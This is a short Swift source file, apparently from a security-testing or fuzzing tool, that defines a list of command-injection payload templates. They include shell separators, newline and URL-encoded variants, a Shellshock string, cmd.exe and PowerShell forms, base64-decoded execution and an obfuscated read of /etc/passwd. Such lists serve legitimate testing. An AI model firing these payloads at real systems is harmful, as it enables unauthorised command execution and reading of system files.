/// Shell metacharacters around a command.
enum CommandInjection {
    static let payloads = Template.list(
        "; {command}", "| {command}", "|| {command}", "& {command}", "&& {command}", "`{command}`",
        "$({command})", "{number}; {command};", "{number}|{command}", "\n{command}", "%0a{command}",
        "{slug}.jpg;{command}", "'; {command} #", "\"; {command}; echo \"", "{email};{command}",
        "a;{command}|a", ";{command}${IFS}", "$(printf '{command}')", "; sh -c \"{command}\"",
        "() { :;}; {command}", "{number} && cmd.exe /c {command}", "|powershell -c {command}",
        "{{{command}}}|sh", ";c''at${IFS}/etc/pas''swd", "; $(echo {command}|base64 -d)")
}
